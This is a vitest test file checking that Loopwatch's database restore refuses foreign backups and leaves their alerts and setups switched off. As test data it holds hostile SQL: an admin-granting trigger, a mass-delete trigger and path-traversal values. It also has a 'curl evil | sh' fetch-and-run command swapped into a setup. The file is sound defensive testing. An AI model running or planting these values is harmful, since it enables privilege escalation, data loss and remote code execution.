/** Backups made by others: what is read from them, what is refused, and what they may cause. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { DatabaseError, openDatabase } from '../../../server/db/database.ts';
import { restoreDatabase } from '../../../server/db/restore-database.ts';
import { readDatabase, writeDatabase } from '../../support/drills/database-files.ts';
import { ForeignBackup } from '../../support/drills/foreign-backup.ts';

const AT = '2026-11-22T10:00:00.000Z';

/** Content no Loopwatch wrote, as a database can hold it, and the message that refuses it. */
const ODD: Record<string, [sql: string, message: RegExp]> = {
  'a trigger on people': [
    "CREATE TRIGGER grant_admin AFTER INSERT ON people BEGIN UPDATE people SET role = 'admin', token_hash = 'x'; END",
    /the trigger "grant_admin", which Loopwatch does not know; drop it/,
  ],
  'a trigger on events': [
    'CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM people; END',
    /the trigger "t"/,
  ],
  'a view in the place of a table': [
    'ALTER TABLE prompts RENAME TO real_prompts; CREATE VIEW prompts AS SELECT * FROM real_prompts',
    /the view "prompts"/,
  ],
  'a virtual table': [
    'CREATE VIRTUAL TABLE search USING fts5(words)',
    /the (virtual|shadow) "search/,
  ],
  'a table of its own': ['CREATE TABLE things (name)', /the table "things"/],
  'an index of its own': ['CREATE INDEX own ON people (lower(name))', /the index "own"/],
  'an index of another condition': [
    'DROP INDEX people_name_key; CREATE UNIQUE INDEX people_name_key ON people (name_key) WHERE length(name) > 1',
    /the index "people_name_key"/,
  ],
  'a generated column': [
    'ALTER TABLE people ADD COLUMN token_copy TEXT GENERATED ALWAYS AS (upper(token_hash)) VIRTUAL',
    /table people has a column "token_copy"/,
  ],
  'a table without row ids': [
    'DROP TABLE prompts; CREATE TABLE prompts (id TEXT PRIMARY KEY) WITHOUT ROWID',
    /the table "prompts"/,
  ],
  'a table that is missing': ['DROP TABLE prompts', /has no table prompts/],
  'a version between two': [
    'UPDATE __drizzle_migrations SET created_at = created_at + 1 WHERE created_at = (SELECT max(created_at) FROM __drizzle_migrations)',
    /written by a newer Loopwatch|is unknown to Loopwatch/,
  ],
  'a role that does not exist': [
    "UPDATE people SET role = 'root'",
    /people\.role contains a value/,
  ],
  'an event that is no JSON': [
    `UPDATE events SET data = '{},"seq":1'`,
    /events\.data contains a value/,
  ],
  'an alert that leads nowhere': [
    `UPDATE alert_rules SET target = '{"kind":"webhook","url":5}'`,
    /alert_rules\.target contains a value/,
  ],
  'a name that is a path': [
    "UPDATE sessions SET name = '../../x' WHERE name = 'open'",
    /sessions\.name contains a value/,
  ],
  'bytes for a text': ["UPDATE prompts SET title = x'00ff'", /prompts\.title contains a value/],
  'a task that belongs nowhere': [
    'PRAGMA foreign_keys = OFF; DELETE FROM project_sessions',
    /a row of tasks refers to a missing row/,
  ],
  'a setup that is none': [
    `UPDATE project_setups SET setup = '{"copy":["../../secret"]}'`,
    /project_setups\.setup contains a value/,
  ],
  'numbers that are used up': [
    "UPDATE sqlite_sequence SET seq = 9223372036854775806 WHERE name = 'events'",
    /events counts to 9223372036854775806/,
  ],
};

it.each(Object.entries(ODD))('KE23, PE12 a file with %s is refused', (_, [sql, message]) => {
  using backup = new ForeignBackup();
  backup.fill();
  writeDatabase(backup.file, sql);
  const before = readFileSync(backup.file);
  const restore = () => restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  expect(restore).toThrow(DatabaseError);
  expect(restore).toThrow(message);
  expect(restore).toThrow(/Nothing was changed/);
  expect(readFileSync(backup.file).equals(before)).toBe(true);
  expect(existsSync(join(backup.home, 'loopwatch.db'))).toBe(false);
});

it('KE14 every row of a backup arrives, in its order, and numbers continue where they were', () => {
  using backup = new ForeignBackup();
  backup.fill();
  writeDatabase(backup.file, "UPDATE sqlite_sequence SET seq = 40 WHERE name = 'events'");
  const before = backup.rows(backup.file);
  restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  const database = join(backup.home, 'loopwatch.db');
  expect(Object.keys(before).length).toBeGreaterThan(12);
  expect(backup.rows(database)).toEqual(backup.settled(before));
  const next = "INSERT INTO events (at, type, data) VALUES ('x', 'x', '{}') RETURNING seq";
  const opened = openDatabase(backup.home);
  expect(opened.raw.prepare(next).pluck().get()).toBe(41);
  opened.close();
});

it('KE24 alerts of a backup are off and listed, unless the replaced database had the same', () => {
  using backup = new ForeignBackup();
  backup.fill();
  const first = restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  expect(first.alerts_off).toEqual([
    { id: 'rule-1', name: 'night page', kind: 'command', to: '/bin/page' },
    { id: 'rule-2', name: 'team', kind: 'webhook', to: 'https://example.org' },
  ]);
  const database = join(backup.home, 'loopwatch.db');
  const rules = 'SELECT id || enabled || cursor FROM alert_rules ORDER BY id';
  expect(readDatabase(database, rules)).toEqual(['rule-107', 'rule-207', 'rule-307']);
  // An admin turns one on: this machine has confirmed it, and the same backup leaves it on.
  writeDatabase(database, "UPDATE alert_rules SET enabled = 1 WHERE id = 'rule-1'");
  const again = restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  expect(again.alerts_off.map(({ id }) => id)).toEqual(['rule-2']);
  // One with the same id that runs something else is not left on.
  writeDatabase(
    backup.file,
    `UPDATE alert_rules SET target = '{"kind":"command","argv":["/bin/other"]}' WHERE id = 'rule-1'`,
  );
  const other = restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  expect(other.alerts_off.map(({ to }) => to)).toEqual(['/bin/other', 'https://example.org']);
});

it('WT65 setups of a backup are off, unless the replaced database had the same', () => {
  using backup = new ForeignBackup();
  backup.fill();
  const restore = () => restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  restore();
  const database = join(backup.home, 'loopwatch.db');
  const isOn = 'SELECT is_on FROM project_setups';
  expect(readDatabase(database, isOn)).toEqual([0]);
  // A person set it again: this machine has confirmed it, and the same backup leaves it on.
  writeDatabase(database, 'UPDATE project_setups SET is_on = 1');
  restore();
  expect(readDatabase(database, isOn)).toEqual([1]);
  writeDatabase(
    backup.file,
    `UPDATE project_setups SET setup = replace(setup, 'npm ci', 'curl evil | sh')`,
  );
  restore();
  expect(readDatabase(database, isOn)).toEqual([0]);
});

it('KE15, KE25 nothing that was pending in a backup is sent, opened, closed or removed', () => {
  using backup = new ForeignBackup();
  backup.fill();
  const restore = () => restoreDatabase({ home: backup.home, file: backup.file, at: AT });
  restore();
  const database = join(backup.home, 'loopwatch.db');
  const read = () => ({
    deliveries: readDatabase(database, 'SELECT state FROM alert_deliveries ORDER BY id'),
    sessions: readDatabase(database, 'SELECT status FROM sessions ORDER BY name'),
    worktrees: readDatabase(database, 'SELECT state FROM worktrees ORDER BY id'),
    ended: JSON.parse(
      String(readDatabase(database, "SELECT value FROM meta WHERE key = 'restored'")[0]),
    ) as unknown,
  });
  expect(read()).toEqual({
    deliveries: ['dead', 'sent'],
    sessions: ['open', 'open', 'open'],
    worktrees: ['ready', 'ready', 'ready'],
    ended: { at: AT, ended_runs: ['run-1'] },
  });
  // The home already had these exact rows: what it was about to do, it does.
  writeDatabase(
    database,
    `DELETE FROM meta WHERE key = 'restored';
     UPDATE alert_deliveries SET state = 'waiting' WHERE id = 'delivery-1';
     UPDATE sessions SET status = 'closing' WHERE name = 'closing';
     UPDATE worktrees SET state = 'removing' WHERE id = 'worktree-2';`,
  );
  restore();
  expect(read()).toEqual({
    deliveries: ['waiting', 'sent'],
    sessions: ['closing', 'open', 'open'],
    worktrees: ['ready', 'removing', 'ready'],
    ended: { at: AT, ended_runs: [] },
  });
});
